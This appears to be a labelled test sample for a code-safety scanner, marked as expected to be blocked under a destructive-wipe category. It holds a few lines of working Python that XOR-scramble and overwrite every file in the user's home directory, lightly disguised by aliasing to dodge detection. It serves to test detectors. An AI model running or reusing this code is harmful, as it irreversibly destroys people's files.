# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/ransom_overwrite.py technique: alias+concat
from pathlib import Path as _f0

def scramble(data: bytes) -> bytes:
    return bytes((b ^ 90 for b in data))
for target in _f0.home().rglob('*'):
    if target.is_file():
        target.write_bytes(scramble(target.read_bytes()))
